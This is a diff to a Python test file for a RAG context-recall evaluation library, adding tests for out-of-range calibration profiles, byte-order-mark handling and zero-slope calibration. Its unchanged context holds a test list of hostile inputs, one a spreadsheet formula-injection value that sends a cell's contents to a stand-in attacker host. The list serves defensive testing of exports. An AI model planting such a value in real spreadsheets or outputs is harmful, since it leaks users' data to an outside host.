@@ -19,6 +19,7 @@ from fakes import ScriptedJudge
 from ragrecall import ContextRecall, calibrate
 from ragrecall.calibration import CalibrationProfile, Label, read_labels
 from ragrecall.cli import main
+from ragrecall.prompts import PROMPT_VERSION
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -144,6 +145,11 @@ PROFILE = {
         ("support_threshold", "0.5"),  # a number as text
         ("moved", "yes"),
         ("labels", 40.5),
+        # past any fitted profile (issue 43, item 11)
+        ("scale_a", 5000.0),
+        ("scale_b", 1e308),
+        ("scale_b", -1e308),
+        ("scale_b", 1001.0),
     ],
 )
 def test_an_out_of_range_profile_is_refused_naming_file_and_field(
@@ -166,6 +172,37 @@ def test_an_out_of_range_profile_is_refused_naming_file_and_field(
     assert code == 2
     err = capsys.readouterr().err
     assert "calibration.json" in err and field in err
+
+
+def test_a_profile_saved_with_a_byte_order_mark_is_read(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    profile = {**PROFILE, "prompt_version": PROMPT_VERSION, "scale_a": 0.8, "scale_b": -0.2}
+    path = tmp_path / "calibration.json"
+    path.write_text(json.dumps(profile, indent=2), encoding="utf-8-sig")
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    assert CalibrationProfile.load(path).scale_b == -0.2
+    data = write_jsonl(tmp_path / "data.jsonl", [{"reference": "Cats purr.", "contexts": ["x"]}])
+    judge = ["--judge-factory", "fakes:LogprobJudge", "--strategy", "per_claim"]
+    assert main(["eval", str(data), *judge, "--calibration", str(path)]) == 0, (
+        capsys.readouterr().err
+    )
+
+
+def test_a_slope_of_zero_is_a_fitted_profile_and_loads(tmp_path: Path) -> None:
+    # labels that run against the judge's P: calibrate gives every P the base rate (slope 0)
+    rng = random.Random(1)
+    rows = []
+    for i in range(200):
+        p = rng.random()
+        label = "supported" if rng.random() > p else "not_supported"
+        rows.append(
+            Label(key=f"k{i}", claim=f"c{i}", label=label, attributed=p > 0.5, p_supported=p)
+        )
+    profile = calibrate(rows, resamples=200)
+    assert profile.scale_a == 0.0 and "scaled P(supported)" in profile.note
+    profile.save(tmp_path / "calibration.json")
+    assert CalibrationProfile.load(tmp_path / "calibration.json") == profile
 
 
 @pytest.mark.parametrize(
